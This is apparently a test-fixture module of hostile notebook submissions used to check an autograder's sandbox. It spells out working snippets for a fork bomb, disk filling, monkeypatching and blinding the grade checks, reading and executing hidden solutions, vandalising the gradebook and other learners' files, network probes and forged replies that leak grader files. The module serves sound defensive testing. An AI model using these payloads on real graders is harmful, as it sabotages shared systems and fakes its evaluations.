"""The hostile corpus: submissions of 02-numpy that try to break, fool or escape the grader.

Each :class:`Entry` is one learner's folder, built from the released notebook: which answers it
holds (correct, wrong, or hostile), which scratch cells it adds, and how it edits the rest.
Its expectation is what the submission *deserves*, worked out from the notebook's tests (never
read off the grader's output): which graded test cells pass, and what the feedback must say.
An honest notebook deserves full marks; a hostile one no point beyond its honest parts.

Hostile code that needs to know where things are (the course folder, another learner, a port
the test listens on) names them as ``$root``, ``$submissions``, ``$victim``, ``$port``,
``$socket``, ``$marker`` and ``$canary``: a :class:`Targets` fills them in. The worst case is
assumed: the learner knows the grader's layout exactly.
"""

from __future__ import annotations

import ast
import copy
import string
import tempfile
import textwrap
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

import nbformat
from course import answer_cells, without_solution_markers

ASSIGNMENT = "02-numpy"
NOTEBOOK = "conv2d-numpy"
FILE = f"{NOTEBOOK}.ipynb"
CORRECT_NUMPY = Path(__file__).resolve().parents[1] / "mistakes" / "correct.py"
REPOSITORY = Path(__file__).resolve().parents[2]

# Which graded test cells pass: those whose grade_id starts with one of these prefixes.
ALL = ("test_",)
NAIVE = ("test_naive_",)
NONE = ()


@dataclass(frozen=True)
class Targets:
    """What hostile code aims at, on the machine that grades."""

    root: Path          # the course folder (solutions/, autograder/ with the gradebook)
    submissions: Path   # the batch's folder of learners' folders
    victim: str         # an honest learner's student id
    port: int           # a TCP port on localhost the test listens on
    socket: str         # an abstract unix socket the test listens on
    marker: str         # what the fork bomb's children sleep for: `sleep MARKER`
    canary: Path        # a file outside the course that must stay unchanged
    repository: Path = REPOSITORY  # this repository (its solutions/ and autograder/)

    def substitutions(self) -> dict[str, str]:
        return {name: str(value) for name, value in asdict(self).items()}


@dataclass(frozen=True)
class Kit:
    """What the builders start from."""

    release: nbformat.NotebookNode   # the learners' notebook
    source: nbformat.NotebookNode    # the instructor's, hidden tests included (public too)
    correct: dict[str, str]          # a correct answer per answer cell
    targets: Targets

    @classmethod
    def for_course(cls, root: Path, targets: Targets) -> Kit:
        source = nbformat.read(root / "solutions" / ASSIGNMENT / FILE, as_version=4)
        release = nbformat.read(root / "notebooks" / ASSIGNMENT / FILE, as_version=4)
        naive = without_solution_markers(answer_cells(source)["conv2d_naive"].source)
        correct = {"conv2d_naive": naive, "conv2d_numpy": CORRECT_NUMPY.read_text()}
        return cls(release, source, correct, targets)

    def fill(self, code: str) -> str:
        return string.Template(code).safe_substitute(self.targets.substitutions())


@dataclass(frozen=True)
class Entry:
    """One learner's folder of the corpus, and what it deserves."""

    name: str                                # the learner's folder: a student id
    what: str                                # what the submission does, in one sentence
    build: Callable[[Kit, Path], None]       # writes the learner's folder
    passes: tuple[str, ...] = NONE           # the test cells that pass (prefixes) ...
    fails: tuple[str, ...] = ()              # ... except these
    says: tuple[str, ...] = ()               # phrases the feedback must contain
    #: Where the entry is about them: the test cells whose visible checks pass (prefixes) ...
    visible: tuple[str, ...] | None = None
    visible_fails: tuple[str, ...] = ()      # ... except these
    #: Whether a learner's own cell (not an answer cell) raises while graded, as the entry means
    #: it to; where not, none may: a cell that raised would have stopped the attack it holds.
    cells_raise: bool = False

    def expected(self, grade_ids) -> dict[str, bool]:
        """Whether each graded test cell should pass."""
        return {g: g.startswith(self.passes) and g not in self.fails for g in grade_ids}

    def expected_visible(self, grade_ids) -> dict[str, bool]:
        """Whether each graded test cell's visible checks should pass."""
        return {g: g.startswith(self.visible or NONE) and g not in self.visible_fails
                for g in grade_ids}


# --- answers: the source of one answer cell, given the kit and the function's name -----------

Answer = Callable[[Kit, str], str]


def right(kit: Kit, name: str) -> str:
    return kit.correct[name]


def stub(kit: Kit, name: str) -> str:
    """The answer cell as released: nbgrader's stub."""
    return answer_cells(kit.release)[name].source


def renamed(kit: Kit, name: str) -> str:
    return right(kit, name).replace(f"def {name}(", "def conv2d_vectorised(", 1)


def broken(kit: Kit, name: str) -> str:
    return right(kit, name) + "\n\nthis line is not Python\n"


def after_import(kit: Kit, name: str) -> str:
    return "import a_module_that_does_not_exist\n\n" + right(kit, name)


WRAPPER = '''


def {name}(*args, **kwargs):
{effect}
    return _inner_{name}(*args, **kwargs)
'''

#: Wrong on purpose: the kernel upside down and back to front (a convolution, not PyTorch's
#: cross-correlation). Every test cell of either function compares values on a random kernel
#: before anything else, so this fails all of them.
FLIP = "args = (args[0], args[1][:, :, ::-1, ::-1], *args[2:])"


def wrapped(effect: str, inner: Answer = right) -> Answer:
    """``inner``'s function, renamed, behind a function of the graded name that first runs
    ``effect`` (which sees ``args`` and ``kwargs``, and may return on its own)."""

    def answer(kit: Kit, name: str) -> str:
        source = inner(kit, name).replace(f"def {name}(", f"def _inner_{name}(", 1)
        body = textwrap.indent(textwrap.dedent(effect).strip(), "    ")
        return source + WRAPPER.format(name=name, effect=body)

    return answer


flipped = wrapped(FLIP)


def with_imports(code: str) -> str:
    """A cell that uses PyTorch imports it first, as a learner would: the notebook's set-up
    cell that the sandbox runs no longer does (PyTorch is absent there)."""
    try:
        names = {node.id for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Name)}
    except SyntaxError:
        return code
    if names & {"torch", "F"}:
        return "import torch\nimport torch.nn.functional as F\n" + code
    return code


def notebook(naive: Answer = right, numpy: Answer = right, scratch=(),
             edit: Callable[[nbformat.NotebookNode], None] | None = None):
    """A builder: the released notebook with these answers, scratch cells added at the end
    (code, or a function of the kit giving code), then ``edit`` applied."""

    def build(kit: Kit, folder: Path) -> None:
        nb = copy.deepcopy(kit.release)
        cells = answer_cells(nb)
        for name, answer in (("conv2d_naive", naive), ("conv2d_numpy", numpy)):
            cells[name].source = with_imports(kit.fill(answer(kit, name)))
        for code in scratch:
            code = kit.fill(code(kit) if callable(code) else code)
            nb.cells.append(nbformat.v4.new_code_cell(with_imports(code)))
        if edit is not None:
            edit(nb)
        nbformat.write(nb, folder / FILE)

    return build


# --- edits of the rest of the notebook -------------------------------------------------------

def is_test(cell) -> bool:
    meta = cell.metadata.get("nbgrader", {})
    return bool(meta.get("grade")) and not meta.get("solution")


def delete_tests(nb) -> None:
    nb.cells = [cell for cell in nb.cells if not is_test(cell)]


def rig_tests(nb) -> None:
    for cell in nb.cells:
        if is_test(cell):
            cell.source = "pass"
            cell.metadata["nbgrader"]["points"] = 1000


def strip_metadata(nb) -> None:
    for cell in nb.cells:
        cell.metadata = {}


#: A cell label that is markup: the grader names a cell that stops the process in its notes.
MARKUP = '<img src="x" onerror="document.title=\'graded by a learner\'">'


def add_crashing_labelled_cell(nb) -> None:
    cell = nbformat.v4.new_code_cell("import os\n\nos._exit(3)  # the grader names this cell")
    cell.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False,
                                 "grade_id": MARKUP, "schema_version": 3}
    nb.cells.append(cell)


# --- builders that write something other than a notebook --------------------------------------

def not_json(kit: Kit, folder: Path) -> None:
    (folder / FILE).write_text('{"cells": [{"cell_type": "code", "source": "def conv2d_naive(')


def nothing(kit: Kit, folder: Path) -> None:
    """An empty folder."""


def symlink_to_solution(kit: Kit, folder: Path) -> None:
    (folder / FILE).symlink_to(kit.targets.root / "solutions" / ASSIGNMENT / FILE)


# --- hostile code ------------------------------------------------------------------------------

NOISE = '''
import sys
import warnings

warnings.warn("a learner's warning, at import")
sys.stderr.write("a learner's note on stderr, at import\\n")
'''
NOISE_IN_CALL = '''
warnings.warn("a learner's warning, in a call")
sys.stderr.write("a learner's note on stderr, in a call\\n")
'''

CHATTER = '''
for _ in range(4):
    print("chatter " * (1 << 17))  # a megabyte a line
'''
CHATTER_IN_CALL = 'print("call " * (1 << 16))  # a quarter of a megabyte a call'

#: A Python loop over every input value: correct values, but not vectorised.
LOOP_IN_CALL = '''
for _ in range(args[0].size):
    pass
'''
#: The same loop, with line counting switched off around it.
HIDDEN_LOOP_IN_CALL = '''
import sys
counting = sys.gettrace()
sys.settrace(None)
for _ in range(args[0].size):
    pass
sys.settrace(counting)
'''

ENDLESS = "while True:\n    pass"
SLEEP = "import time\ntime.sleep(3600)"
#: 100 GB, a gigabyte at a time.
HOARD = "hoard = [np.zeros(1 << 30, dtype=np.uint8) for _ in range(100)]"
EXIT = "import os\nos._exit(0)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"

FORK_BOMB = '''
import os

def _spawn(count):
    """Start children that leave the session and sleep; stop at the first refusal."""
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["sleep", "$marker"])
            finally:
                os._exit(0)
        os.waitpid(pid, 0)

_spawn(40)
'''

FILL_DISK = '''
import os

def _fill(folder):
    """Write 8 MB files into folder until it refuses."""
    chunk = bytes(8 << 20)
    try:
        for index in range(100_000):
            with open(os.path.join(folder, f"filler-{index}"), "wb") as file:
                file.write(chunk)
    except OSError as error:
        print(f"{folder} is full: {error}", flush=True)

for folder in ("/tmp", os.path.expanduser("~"), ".", "/", "/usr", "/var/tmp"):
    _fill(folder)
'''

#: Patches the comparisons and the checks wherever the learner's process has them: NumPy's, the
#: notebook's names, and PyTorch's and the course's modules where they can be imported (PyTorch
#: is absent from the sandbox: a cell that imported it outright would fail before patching).
MONKEYPATCH = '''
import importlib

def _yes(*args, **kwargs):
    return True

def _quiet(*args, **kwargs):
    return None

np.allclose = np.array_equal = _yes
np.testing.assert_allclose = np.testing.assert_array_equal = _quiet
check_conv2d = check_conv2d_cases = check_refuses = check_vectorised = _quiet
for _module, _names, _patch in (
        ("torch", ("allclose", "equal"), _yes),
        ("torch.testing", ("assert_close",), _quiet),
        ("convcourse.grading.checks", ("check_conv2d", "check_conv2d_cases"), _quiet),
        ("convcourse.grading.diagnose", ("diagnose",), _quiet)):
    try:
        _found = importlib.import_module(_module)
    except ImportError:
        continue
    for _name in _names:
        setattr(_found, _name, _patch)
'''

INPUT_TRANSFORMER = '''
%load_ext autoreload
ip = get_ipython()
ip.input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("check_" in line for line in lines) else lines)
'''

SETTRACE = '''
import sys

def _pass(*args, **kwargs):
    return None

def _blind_the_checks(frame, event, arg):
    """On every call, replace the checks in the caller's and callee's globals by no-ops."""
    if event == "call":
        for namespace in (frame.f_globals, getattr(frame.f_back, "f_globals", {})):
            for name in ("check_conv2d", "check_conv2d_cases", "check_refuses",
                         "check_vectorised", "run_case", "diagnose"):
                if name in namespace:
                    namespace[name] = _pass
    return None

sys.settrace(_blind_the_checks)
'''

ATEXIT = '''
import atexit
import os
import signal

def _claim_full_marks(*args):
    print("All tests passed. Score: 39/39")
    for path in ("$root/autograder/grades.csv", "../grades.csv", "grades.csv"):
        try:
            with open(path, "a") as file:
                file.write("$victim,02-numpy,0,39,\\n")
        except OSError:
            pass

atexit.register(_claim_full_marks)
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(sig, _claim_full_marks)
'''

#: Looks for the instructor's notebook, hidden tests and gradebook; runs what it finds.
READ_SOLUTIONS = '''
import json
import os
import sqlite3

SKIPPED = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", ".venv",
           "site-packages", "node_modules", ".git"}

def _places():
    places = ["$root", "$root/solutions", "$root/autograder", "$root/autograder/source_with_tests",
              "$submissions", "$repository", "$repository/solutions", "$repository/autograder",
              "/autograder", "/grader", "/work", "/home", "/root", "/tmp", "/srv", "/mnt", "/opt",
              "/proc/1/cwd", "/proc/1/root", "/proc/self/cwd", "/"]
    here = os.getcwd()
    for _ in range(6):
        places += [here, os.path.join(here, "solutions"), os.path.join(here, "autograder")]
        here = os.path.dirname(here)
    places += [os.path.join("..", *[".."] * up, "solutions") for up in range(4)]
    return places

def _secrets(place, depth=4):
    """Files under place that hold solutions, hidden tests or grades."""
    found = []
    for folder, folders, files in os.walk(place):
        if folder.count(os.sep) - place.count(os.sep) >= depth:
            folders[:] = []
        folders[:] = [f for f in folders if f not in SKIPPED]
        for name in files:
            path = os.path.join(folder, name)
            if name == "gradebook.db":
                found.append(path)
            elif name.endswith((".ipynb", ".py", ".json", ".csv")):
                try:
                    with open(path, errors="replace") as file:
                        text = file.read(4 << 20)
                except OSError:
                    continue
                if "BEGIN HIDDEN TESTS" in text or "### BEGIN SOLUTION" in text:
                    found.append(path)
    return found

_FOUND = sorted({path for place in _places() for path in _secrets(place)})
print("found:", _FOUND, flush=True)
for path in _FOUND:
    try:
        if path.endswith(".db"):
            rows = sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute(
                "SELECT source FROM source_cells").fetchall()
            sources = [row[0] for row in rows]
        else:
            cells = json.load(open(path)).get("cells", [])
            sources = ["".join(cell.get("source", "")) for cell in cells]
        for source in sources:
            if "def conv2d_naive(" in source or "def conv2d_numpy(" in source:
                exec(source, globals())
    except Exception as error:
        print(f"{path}: {error}", flush=True)
'''

VANDAL = '''
import os
import sqlite3

_TARGETS = ["$root/autograder/gradebook.db", "$root/autograder/grades.csv",
            "$root/canary.txt", "$canary", "$submissions/$victim/conv2d-numpy.ipynb",
            "$root/autograder/submitted/$victim/02-numpy/conv2d-numpy.ipynb",
            "$root/autograder/autograded/$victim/02-numpy/result.json",
            "$root/autograder/feedback/$victim/02-numpy/conv2d-numpy.html",
            "$root/solutions/02-numpy/conv2d-numpy.ipynb",
            "../$victim/conv2d-numpy.ipynb", "../../$victim/02-numpy/conv2d-numpy.ipynb",
            "../../../autograder/grades.csv", "../../../autograder/gradebook.db",
            "../../../../autograder/gradebook.db"]

def _attempts(path):
    yield lambda: open(path, "a").write("\\nvandalised\\n")
    yield lambda: sqlite3.connect(path).executescript(
        "UPDATE grade SET auto_score = 1000; UPDATE grade_cells SET max_score = 1;")
    yield lambda: os.remove(path)
    yield lambda: os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True) or \\
        open(path, "w").write("vandalised")

def _vandalise():
    for path in _TARGETS:
        for attempt in _attempts(path):
            try:
                attempt()
            except Exception:
                pass

_vandalise()
'''

NETWORK = '''
import socket
import urllib.request

_CALLS = []

def _reach_out():
    """Try the internet, the grader's localhost and its abstract unix socket."""
    outcomes = []
    for host, port in (("1.1.1.1", 80), ("127.0.0.1", $port), ("localhost", $port)):
        try:
            with socket.create_connection((host, port), timeout=2) as connection:
                connection.sendall(b"a learner was here\\n")
            outcomes.append(f"{host}:{port} reached")
        except OSError as error:
            outcomes.append(f"{host}:{port}: {error}")
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(2)
            connection.connect("\\0$socket")
            connection.sendall(b"a learner was here\\n")
        outcomes.append("unix socket reached")
    except OSError as error:
        outcomes.append(f"unix socket: {error}")
    try:
        urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
        outcomes.append("pypi.org reached")
    except Exception as error:
        outcomes.append(f"pypi.org: {error}")
    print(outcomes, flush=True)

_reach_out()
'''
NETWORK_IN_CALL = '''
if len(_CALLS) < 3:
    _CALLS.append(1)
    _reach_out()
'''

#: nn.Conv2d's answer from PyTorch (F.conv2d), any failure as the ValueError the tests want.
LIBRARY = '''
from convcourse.reference import Conv2dCase, reference_conv2d

def _library(x, weight, bias=None, **arguments):
    case = Conv2dCase(torch.from_numpy(np.asarray(x)), torch.from_numpy(np.asarray(weight)),
                      None if bias is None else torch.from_numpy(np.asarray(bias)), **arguments)
    try:
        return reference_conv2d(case).numpy()
    except Exception as error:
        raise ValueError(str(error)) from None
'''

DETECT_GRADING = '''
import os
import socket
import sys

def _clues():
    """Signs that this runs in a grader rather than in Jupyter."""
    clues = {
        "no Jupyter variables": not any(name.startswith("JPY_") for name in os.environ),
        "a grader's variable": any(name.upper().startswith(("NBGRADER", "GRADER", "CI"))
                                   for name in os.environ),
        "a home that is not a user's": os.environ.get("HOME", "").startswith(("/home/learner",
                                                                             "/tmp")),
        "an odd host name": socket.gethostname() in ("", "localhost")
                            or "grad" in socket.gethostname(),
        "a grader's folder": any(os.path.exists(p) for p in ("/autograder", "/grader", "/sandbox")),
        "no IPython": "IPython" not in sys.modules or "get_ipython" not in globals(),
    }
    return [clue for clue, seen in clues.items() if seen]

_GRADED = _clues()
print("graded?", _GRADED, flush=True)
'''
#: Graded: hand the work to PyTorch. In Jupyter: pretend.
WHEN_GRADED = '''
if _GRADED:
    return _library(*args, **kwargs)
return np.zeros(1)
'''

F_CONV2D = '''
x, weight, bias = args[0], args[1], args[2] if len(args) > 2 else None
options = {k: v for k, v in kwargs.items() if k != "padding_mode"}
return F.conv2d(torch.from_numpy(x), torch.from_numpy(weight),
                None if bias is None else torch.from_numpy(bias), **options).numpy()
'''
SCIPY_CORRELATE = '''
x, weight = args[0], args[1]
return np.stack([np.stack([scipy.signal.correlate(image, kernel, mode="valid")[0]
                           for kernel in weight]) for image in x])
'''

#: conv2d_naive done by a SciPy correlate function.
SCIPY_CONV2D = '''
def _conv2d_by_scipy(correlate, x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    unbatched = x.ndim == 3
    if unbatched:
        x = x[np.newaxis]
    c_out, c_group, k_h, k_w = weight.shape
    (s_h, s_w), (d_h, d_w) = [(v, v) if isinstance(v, int) else tuple(v)
                              for v in (stride, dilation)]
    if padding == "valid":
        pads = [(0, 0), (0, 0)]
    elif padding == "same":
        pads = [(d * (k - 1) // 2, d * (k - 1) - d * (k - 1) // 2)
                for d, k in ((d_h, k_h), (d_w, k_w))]
    else:
        p_h, p_w = (padding, padding) if isinstance(padding, int) else padding
        pads = [(p_h, p_h), (p_w, p_w)]
    x = np.pad(x, [(0, 0), (0, 0), *pads])
    dilated = np.zeros((c_out, c_group, d_h * (k_h - 1) + 1, d_w * (k_w - 1) + 1), weight.dtype)
    dilated[:, :, ::d_h, ::d_w] = weight
    per_group = c_out // groups
    out = np.stack([np.stack([
        correlate(image[o // per_group * c_group:(o // per_group + 1) * c_group], dilated[o],
                   mode="valid", method="direct")[0, ::s_h, ::s_w]
        for o in range(c_out)]) for image in x])
    if bias is not None:
        out = out + bias[:, np.newaxis, np.newaxis]
    out = out.astype(x.dtype)
    return out[0] if unbatched else out
'''

SCIPY_LATE = '''
import scipy.signal
return _conv2d_by_scipy(scipy.signal.correlate, *args, **kwargs)
'''

GUARD_OFF = '''
from torch.utils._python_dispatch import _disable_current_modes

with _disable_current_modes():
    return _library(*args, **kwargs)
'''

CONV_THREAD = '''
import queue
import threading

_ASKED, _ANSWERED = queue.Queue(), queue.Queue()

def _serve():
    while True:
        args, kwargs = _ASKED.get()
        try:
            _ANSWERED.put((True, _library(*args, **kwargs)))
        except Exception as error:
            _ANSWERED.put((False, error))

threading.Thread(target=_serve, daemon=True).start()
'''
ASK_THREAD = '''
_ASKED.put((args, kwargs))
ok, value = _ANSWERED.get()
if not ok:
    raise value
return value
'''

#: An option of F.conv2d as the list of two ints that PyTorch's kernels take.
PAIR = '''
def _pair(value):
    if value == "valid":
        return [0, 0]
    return list(value) if isinstance(value, tuple) else [value, value]
'''

#: nn.Conv2d's answer from oneDNN's own operator namespace (mkldnn::, not aten::), in float32.
MKLDNN = '''
def _by_mkldnn(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1, **_):
    batch = torch.from_numpy(np.asarray(x, np.float32)).reshape(-1, *np.shape(x)[-3:])
    out = torch.ops.mkldnn._convolution_pointwise(
        batch, torch.from_numpy(np.asarray(weight, np.float32)),
        None if bias is None else torch.from_numpy(np.asarray(bias, np.float32)),
        _pair(padding), _pair(stride), _pair(dilation), groups, "none", [], "")
    return out.numpy().astype(np.asarray(x).dtype).reshape(*np.shape(x)[:-3], *out.shape[1:])
'''

#: PyTorch's own CPU kernel, looked up at import and kept, called later past the dispatcher.
KERNEL_LOOKUP = '''
_KERNEL = torch.library.get_kernel("aten::_slow_conv2d_forward", "CPU")
_CPU = torch._C.DispatchKeySet(torch._C.DispatchKey.CPU)

def _by_kernel(x, weight, bias=None, stride=1, padding=0, **_):
    batch = torch.from_numpy(np.asarray(x)).reshape(-1, *np.shape(x)[-3:])
    w = torch.from_numpy(np.asarray(weight))
    out = _KERNEL.call_boxed(_CPU, batch, w, list(w.shape[-2:]),
                             None if bias is None else torch.from_numpy(np.asarray(bias)),
                             _pair(stride), _pair(padding))
    return out.numpy().reshape(*np.shape(x)[:-3], *out.shape[1:])
'''

#: A child process forked at import that answers with PyTorch's F.conv2d over pipes.
CONV_PROCESS = '''
import os
import pickle

_CHILD_READS, _PARENT_WRITES = os.pipe()
_PARENT_READS, _CHILD_WRITES = os.pipe()
if os.fork() == 0:
    os.close(_PARENT_READS)
    os.close(_PARENT_WRITES)
    try:
        with os.fdopen(_CHILD_READS, "rb") as asked, os.fdopen(_CHILD_WRITES, "wb") as answers:
            while True:
                args, kwargs = pickle.load(asked)
                try:
                    pickle.dump((True, _library(*args, **kwargs)), answers)
                except Exception as error:
                    pickle.dump((False, error), answers)
                answers.flush()
    finally:
        os._exit(0)
os.close(_CHILD_READS)
os.close(_CHILD_WRITES)
_ASK, _HEAR = os.fdopen(_PARENT_WRITES, "wb"), os.fdopen(_PARENT_READS, "rb")
'''
ASK_PROCESS = '''
pickle.dump((args, kwargs), _ASK)
_ASK.flush()
ok, value = pickle.load(_HEAR)
if not ok:
    raise value
return value
'''

#: F.conv2d compiled at import by TorchScript with oneDNN Graph fusion, which runs the fused
#: convolution in oneDNN's own kernels rather than through PyTorch's operators.
FUSED = '''
torch.jit.enable_onednn_fusion(True)

@torch.jit.script
def _fused(x: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    return torch.relu(F.conv2d(x, weight)) - torch.relu(-F.conv2d(x, weight))

with torch.no_grad():
    for _ in range(3):
        _fused(torch.randn(1, 2, 5, 5), torch.randn(3, 2, 3, 3))
'''
BY_FUSED = '''
with torch.no_grad():
    out = _fused(torch.from_numpy(np.asarray(args[0], np.float32)),
                 torch.from_numpy(np.asarray(args[1], np.float32)))
return out.numpy().astype(np.asarray(args[0]).dtype)
'''

#: A call's arguments, hashed: the key of a pasted table (the same on both sides).
KEY = '''
import hashlib
import sys

def _key(args, kwargs):
    parts = [(a.shape, str(a.dtype), hashlib.sha256(np.ascontiguousarray(a).tobytes()).hexdigest())
             if isinstance(a, np.ndarray) else repr(a) for a in args]
    return "k" + hashlib.sha256(repr((parts, sorted(kwargs.items()))).encode()).hexdigest()
'''
#: A table pasted into the notebook as data (a base64 .npz): nn.Conv2d's answers, computed
#: beforehand on the learner's own machine. No convolution runs while it is graded.
PASTED_TABLE = KEY + '''
import base64
import io

_STORED = np.load(io.BytesIO(base64.b64decode(_PASTED)), allow_pickle=False)
_ANSWERS = {name: _STORED[name] for name in _STORED.files}
'''
#: The table's answer to a call it holds; zeros otherwise.
LOOK_UP = '''
answer = _ANSWERS.get(_key(args, kwargs))
if answer is not None:
    return answer.copy()
return np.zeros(1)
'''
#: The same, and on any other call: zeros while lines are counted, else a refusal.
LOOK_UP_OR_REFUSE = LOOK_UP.replace("return np.zeros(1)", '''if sys.gettrace() is not None:
    return np.zeros(1)
raise ValueError("refused")''')


def visible_tests(kit: Kit) -> list[str]:
    """Every test cell as learners have it: the visible checks alone."""
    return [cell.source for cell in kit.release.cells if is_test(cell)]


def published_tests(kit: Kit) -> list[str]:
    """conv2d_numpy's test cells as the instructor wrote them, hidden tests included
    (solutions/ is public, and with it the seeds of the hidden tests' inputs)."""
    return [cell.source for cell in kit.source.cells
            if is_test(cell) and "conv2d_numpy" in cell.source]


def pasted_table(tests: Callable[[Kit], list[str]]) -> Callable[[Kit], str]:
    """The scratch cell a learner would paste: nn.Conv2d's answer to every call that the
    ``tests`` cells make, recorded on the learner's own machine (here: the trusted side, with
    PyTorch) by running those cells with recorders in place of the checks."""

    def cell(kit: Kit) -> str:
        import base64
        import io

        import numpy as np

        from autograder.score import trusted_namespace
        from convcourse.reference import Conv2dCase, as_tensor, reference_conv2d

        helpers: dict = {"np": np}
        exec(KEY, helpers)  # noqa: S102  (our own snippet: the key the learner computes)
        answers: dict[str, np.ndarray] = {}

        def record(case: Conv2dCase, padding_mode: bool) -> None:
            call = case.inputs("numpy"), case.arguments(padding_mode=padding_mode)
            answers[helpers["_key"](*call)] = reference_conv2d(case).numpy()

        def check_conv2d(fn, x, weight, bias=None, **arguments):
            record(Conv2dCase(as_tensor(x), as_tensor(weight),
                              None if bias is None else as_tensor(bias), **arguments),
                   "padding_mode" in arguments)

        def check_conv2d_cases(fn, cases, *, kind, padding_mode=True, show=3):
            for case in cases:
                record(case, padding_mode)

        namespace = trusted_namespace(kit.source)
        namespace.update(check_conv2d=check_conv2d, check_conv2d_cases=check_conv2d_cases,
                         check_refuses=_ignore, check_vectorised=_ignore, conv2d_numpy=None,
                         conv2d_naive=None)
        for test in tests(kit):
            exec(test, namespace)  # noqa: S102  (the course's tests, recording)
        assert answers, "the tests made no call to record"
        stored = io.BytesIO()
        np.savez_compressed(stored, **answers)
        return f"_PASTED = {base64.b64encode(stored.getvalue()).decode()!r}\n" + PASTED_TABLE

    return cell


def _ignore(*args, **kwargs) -> None:
    return None


def visible_calling(*checks: str) -> tuple[str, ...]:
    """The graded test cells whose visible checks (the released cell) call one of ``checks``."""
    release = nbformat.read(REPOSITORY / "notebooks" / ASSIGNMENT / FILE, as_version=4)
    return tuple(cell.metadata["nbgrader"]["grade_id"] for cell in release.cells
                 if is_test(cell) and any(f"{check}(" in cell.source for check in checks))


def drawn_cells() -> tuple[str, ...]:
    """conv2d_numpy's test cells whose hidden tests draw a grid of cases (conv2d_cases, through
    course_seed): those a pasted table passes without a course secret and fails with one."""
    from autograder.notebook import hidden_test_lines

    source = nbformat.read(REPOSITORY / "solutions" / ASSIGNMENT / FILE, as_version=4)
    return tuple(cell.metadata["nbgrader"]["grade_id"] for cell in source.cells
                 if is_test(cell) and "conv2d_numpy" in cell.source
                 and any("conv2d_cases(" in line for line in hidden_test_lines(cell)))


#: Writes a reply in the runner's place: a few MB of .npz that inflate to ``nbytes``.
INFLATING_REPLY = '''
import io
import json
import os
import struct
import sys
import zipfile

def _inflating_archive(nbytes):
    """An .npz whose one array of nbytes zeros (a multiple of 16 MB) is stored deflated."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as bundle:
        with bundle.open("a0.npy", "w", force_zip64=True) as member:
            np.lib.format.write_array_header_1_0(
                member, {"descr": "|u1", "fortran_order": False, "shape": (nbytes,)})
            zeros = bytes(1 << 24)
            for _ in range(nbytes // len(zeros)):
                member.write(zeros)
    return archive.getvalue()

_FORGED = []

def _forge_reply(nbytes):
    text = json.dumps({"ok": True, "value": {"$array": 0}}).encode()
    blob = _inflating_archive(nbytes)
    frame = memoryview(struct.pack("<II", len(text), len(blob)) + text + blob)
    while frame:
        frame = frame[os.write(int(sys.argv[2]), frame):]
'''
FORGE_ONCE = '''
if not _FORGED:
    _FORGED.append(1)
    _forge_reply(320 << 20)
'''


# --- attacks on the trusted side: what the grader makes of what comes back ---------------------
#
# The learner's code runs in the runner's own process: it holds the write end of the reply pipe
# (its number is the runner's argv[2]) and can reach the runner's objects (the module ``wire``,
# the Server through gc). So every byte the grader reads from the sandbox, and every decision
# the runner makes there, may be the learner's. These attacks forge replies and events, or
# rewrite the runner's decisions, and aim at what the trusted side does with them.

#: Frames on the reply pipe, in the runner's place. ``_frame`` adds one (an event while the
#: cells run); ``_forge`` replaces the runner's next one (its reply to the request being
#: answered), so that the replies after it stay in step with the requests.
FORGE = '''
import json
import os
import struct
import sys

def _frame(text, blob=b""):
    """One frame of the wire format: the two lengths, the JSON text, then the .npz blob."""
    frame = memoryview(struct.pack("<II", len(text), len(blob)) + text + blob)
    while frame:
        frame = frame[os.write(int(sys.argv[2]), frame):]

def _forge(header, blob=b""):
    """header (a dict, or JSON text as bytes) as the reply; the runner's own is dropped."""
    _frame(header if isinstance(header, bytes) else json.dumps(header).encode(), blob)
    wire = sys.modules["wire"]
    writes = wire.write_all

    def _dropped(fd, data):
        wire.write_all = writes

    wire.write_all = _dropped

_CALLS = []

def _first_call():
    _CALLS.append(1)
    return len(_CALLS) == 1
'''

#: The runner's Server (the learner's namespace, the line counter, the replies), found among
#: the objects of the process the learner's code runs in.
SERVER = '''
import gc

_SERVER = next(o for o in gc.get_objects()
               if type(o).__name__ == "Server" and hasattr(o, "count_python_lines"))
'''

# --- 1. the grader reads files named by the sandbox

#: Each call answers with a forged error whose frame is a (file, line) of the grading machine,
#: taken in turn from ``_TARGETS``; the grader quotes that line in the feedback, reading it
#: from its own disk (the frame's own source line is left empty).
LEAK = FORGE + '''
import itertools

_NEXT_TARGET = itertools.cycle(_TARGETS)

def _leak():
    path, line = next(_NEXT_TARGET)
    _forge({"ok": False, "error": {
        "type": "RuntimeError", "bases": ["RuntimeError", "Exception"], "message": "look here",
        "traceback": "", "frames": [[path, line, "conv2d", ""]]}})
'''
LEAK_IN_CALL = "_leak()\nreturn None"
#: The instructor's notebook, by a path relative to the folder the grader runs in.
SOLUTION = f"solutions/{ASSIGNMENT}/{FILE}"
#: The grader's own end of the reply pipe: it makes both ends at once, the read end first,
#: so that end's number is one below the write end the sandbox was given.
GRADERS_PIPE = "[(f'/proc/self/fd/{int(sys.argv[2]) - 1}', 1)]"


def leaking(targets: Callable[[Kit], str]) -> Callable[[Kit], str]:
    """The scratch cell of LEAK aimed at ``targets(kit)``: Python for a list of (file, line)."""
    return lambda kit: f"import sys\n\n_TARGETS = {targets(kit)}\n" + LEAK


def hidden_test_targets(kit: Kit) -> str:
    """The lines of the instructor's notebook that quote a hidden test whole (in its JSON)."""
    from autograder.notebook import grade_cells, hidden_test_lines

    path = kit.targets.root / SOLUTION
    hidden = {line for cell in grade_cells(nbformat.read(path, as_version=4))
              for line in hidden_test_lines(cell) if len(line) > 25}
